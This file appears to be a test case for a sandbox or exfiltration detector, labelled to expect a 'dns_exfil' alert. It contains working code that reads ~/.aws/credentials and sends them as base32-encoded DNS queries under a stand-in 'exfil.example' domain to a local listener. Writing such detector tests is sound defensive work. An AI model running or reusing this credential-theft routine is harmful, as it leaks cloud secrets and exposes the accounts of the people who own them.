# expect: dns_exfil
# action: alert
# about: reads ~/.aws/credentials, sends it as DNS over TCP by write(): 60-char base32 labels
import base64
import contextlib
import os
import socket
import struct
import threading


def listener():
    """A resolver on 127.0.0.1:53 when the sandbox lets us bind it (root in bare and
    bwrap); without one the non-blocking connect still flags the socket, and the write
    is seen at its entry even though it fails."""
    try:
        srv = socket.socket()
        srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        srv.bind(("127.0.0.1", 53))
        srv.listen(1)
    except OSError:
        return False

    def serve():
        with contextlib.suppress(OSError):
            conn, _ = srv.accept()
            while conn.recv(4096):
                pass
    threading.Thread(target=serve, daemon=True).start()
    return True


up = listener()
s = socket.socket()
if up:
    s.connect(("127.0.0.1", 53))
else:
    s.setblocking(False)
    with contextlib.suppress(OSError):
        s.connect(("127.0.0.1", 53))
with open(os.path.expanduser("~/.aws/credentials"), "rb") as f:
    secret = f.read()
data = base64.b32encode(secret + os.urandom(60)).decode().rstrip("=").lower()
for i in range(0, len(data), 60):
    q = struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0)
    for part in (data[i:i + 60], "t", "exfil", "example"):
        q += bytes([len(part)]) + part.encode()
    q += b"\x00" + struct.pack(">HH", 16, 1)
    with contextlib.suppress(OSError):
        os.write(s.fileno(), struct.pack(">H", len(q)) + q)
